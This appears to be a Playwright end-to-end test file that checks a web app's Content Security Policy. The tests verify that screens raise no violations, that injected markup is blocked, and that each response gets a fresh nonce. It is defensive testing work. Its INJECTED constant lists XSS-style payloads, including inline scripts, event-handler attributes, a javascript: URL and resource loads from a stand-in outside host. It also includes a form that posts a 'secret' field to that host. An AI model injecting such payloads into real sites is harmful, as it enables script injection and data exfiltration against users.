import type { Page, Route } from "@playwright/test";
import { SECTIONS, SUBPAGES } from "@/components/shell/sections";
import { showToAnybody } from "@/tests/e2e/support/public-page";
import { expect, test } from "@/tests/e2e/support/test";
import { inForm } from "../support/in-form";

const ELSEWHERE = "https://elsewhere.example";

/** HTML that an attacker could inject: each part tries to run, submit or fetch something. */
const INJECTED = `
<script>window.ran = [...(window.ran ?? []), "an inline script"]</script>
<script nonce="">window.ran = [...(window.ran ?? []), "a script with an empty nonce"]</script>
<script src="${ELSEWHERE}/script.js"></script>
<script src="data:text/javascript,window.ran=[...(window.ran??[]),'a script of data']"></script>
<img src="/no-such-picture" onerror="window.ran = [...(window.ran ?? []), 'an event handler']">
<svg onload="window.ran = [...(window.ran ?? []), 'an event handler of SVG']"></svg>
<a id="injected-link" href="javascript:void (window.ran = [...(window.ran ?? []), 'a javascript: URL'])">go</a>
<iframe srcdoc="<script>parent.ran = [...(parent.ran ?? []), 'a frame']</script>"></iframe>
<iframe src="${ELSEWHERE}/frame"></iframe>
<object data="${ELSEWHERE}/object"></object>
<embed src="${ELSEWHERE}/embed">
<img src="${ELSEWHERE}/picture.png" alt="">
<video src="${ELSEWHERE}/film.mp4"></video>
<link rel="stylesheet" href="${ELSEWHERE}/style.css">
<style>@import "${ELSEWHERE}/imported.css"; body { background: url("${ELSEWHERE}/background.png") }</style>
<div style="width: 1px; height: 1px; background: url('${ELSEWHERE}/attribute.png')"></div>
<base href="${ELSEWHERE}/">
<form id="injected-form" method="post" action="${ELSEWHERE}/form"><input name="secret" value="1"></form>
`;

/** Each directive must have blocked something. */
const REFUSED_BY = [
  "script-src-elem",
  "script-src-attr",
  "style-src-elem",
  "img-src",
  "frame-src",
  "media-src",
  "object-src",
  "base-uri",
  "form-action",
];

/** Records policy violations from before the first script. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const noted: string[] = [];
    Object.assign(window, { noted });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sourceFile }) =>
      noted.push(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { noted: string[] }).noted);
}

/** Adds HTML to the end of the response body. */
const injecting = (html: string) => async (route: Route) => {
  const response = await route.fetch();
  const body = (await response.text()).replace("</body>", `${html}</body>`);
  await route.fulfill({ response, body });
};

test("no screen violates its own policy, loaded or navigated to", { tag: "@full" }, async ({
  page,
  brand,
  people,
  visitor,
  signIn,
  allow,
}) => {
  // About forty screens; the timeout only catches a hang.
  test.setTimeout(300_000);
  allow(/^40[04] GET /);
  const { slug, owner } = brand("busy");
  await signIn(owner);
  await showToAnybody(page, slug);
  const violations = await watchPolicy(page);
  const paths = [...SECTIONS, ...SUBPAGES].map(({ path }) => `/b/${slug}${path}`);
  for (const path of [...paths, "/new", "/account", `/p/${slug}`, "/nothing", `/b/${slug}/nothing`, "/no.thing"]) {
    await page.goto(path);
    await page.locator("html[data-hydrated]").waitFor();
    expect(await violations(), path).toEqual([]);
  }

  await page.goto(`/b/${slug}`);
  await page.locator("html[data-hydrated]").waitFor();
  for (const { label, path } of SECTIONS) {
    await page.getByRole("link", { name: label, exact: true }).first().click();
    await expect(page).toHaveURL(new RegExp(`/b/${slug}${path}$`));
  }
  await page.keyboard.press("ControlOrMeta+k");
  await expect(page.getByRole("dialog")).toBeVisible();
  expect(await violations()).toEqual([]);

  const admin = await visitor(people.hubAdmin);
  const violationsOfAdmin = await watchPolicy(admin);
  for (const path of [
    "/admin",
    "/admin/brands",
    "/admin/tools",
    "/admin/tools/new",
    "/admin/entitlements",
    "/admin/activity",
  ]) {
    await admin.goto(path);
    await admin.locator("html[data-hydrated]").waitFor();
    expect(await violationsOfAdmin(), path).toEqual([]);
  }

  const anyone = await visitor();
  const violationsOfAnyone = await watchPolicy(anyone);
  for (const path of [
    "/sign-in",
    `/p/${slug}`,
    "/p/nothing",
    "/invite/nothing",
    "/connect/nothing",
    "/api/auth/signout",
  ]) {
    await anyone.goto(path);
    expect(await violationsOfAnyone(), path).toEqual([]);
  }
});

test("injected HTML cannot run scripts, submit forms or load resources on any page", async ({
  page,
  brand,
  visitor,
  signIn,
  allow,
}) => {
  allow(/Content Security Policy|^csp GET |^404 GET /);
  // React reports markup that it did not render.
  allow(/Minified React error/);
  const { slug, owner } = brand("busy");
  await signIn(owner);
  await showToAnybody(page, slug);
  const anyone = await visitor();

  const pages: [Page, string][] = [
    [page, `/b/${slug}`],
    [anyone, "/sign-in"],
    [anyone, `/p/${slug}`],
  ];
  const others: [Page, string][] = [
    [page, `/b/${slug}/developers/docs`],
    [page, "/account"],
    [page, "/nothing"],
  ];
  for (const [reader, path] of inForm({ short: pages, full: [...pages, ...others] })) {
    const tab = await reader.context().newPage();
    const reached: string[] = [];
    await tab.route(`${ELSEWHERE}/**`, async (route) => {
      reached.push(route.request().url());
      await route.fulfill({ status: 200, body: "" });
    });
    await tab.route(new RegExp(`${path}$`), injecting(INJECTED));
    const violations = await watchPolicy(tab);
    await tab.goto(path, { waitUntil: "commit" });
    await tab.waitForLoadState();
    const url = tab.url();
    const ran = await tab.evaluate(async () => {
      document.querySelector<HTMLAnchorElement>("#injected-link")?.click();
      await new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn)));
      return (window as { ran?: string[] }).ran ?? [];
    });
    expect([...ran, ...reached], path).toEqual([]);
    await tab.evaluate(() => document.querySelector<HTMLFormElement>("#injected-form")?.submit());
    await expect
      .poll(async () => (await violations()).map((text) => text.split(" ")[0]), path)
      .toEqual(expect.arrayContaining(REFUSED_BY));
    expect(reached, path).toEqual([]);
    expect(tab.url()).toBe(url);
    await tab.close();
  }
});

test("each response has its own nonce, and its policy allows only the page's images and form targets", async ({
  page,
  brand,
  signIn,
}) => {
  const { slug, owner } = brand("busy");
  await signIn(owner);
  await showToAnybody(page, slug);
  const policyOf = async (path: string) => (await page.request.get(path)).headers()["content-security-policy"] ?? "";
  const policies = await Promise.all(["/account", "/account", `/p/${slug}`, `/b/${slug}`].map(policyOf));
  const nonces = policies.map((policy) => /script-src 'nonce-([^']{24})' 'strict-dynamic';/.exec(policy)?.[1]);
  expect(new Set(nonces).size).toBe(policies.length);
  for (const policy of policies) expect(policy).not.toMatch(/unsafe-inline(?!'; img-src)|unsafe-eval|https?:/);
  expect(policies[0]).toContain("form-action 'self'");
  expect(policies[2]).toContain("form-action 'none'");
  expect(policies[2]).toContain("img-src 'self';");

  // The hub must ignore a nonce that the client sends.
  const sent = { "content-security-policy": "script-src 'nonce-AAAAAAAAAAAAAAAAAAAAAA=='" };
  expect(await (await page.request.get("/account", { headers: sent })).text()).not.toContain(
    "AAAAAAAAAAAAAAAAAAAAAA==",
  );
});
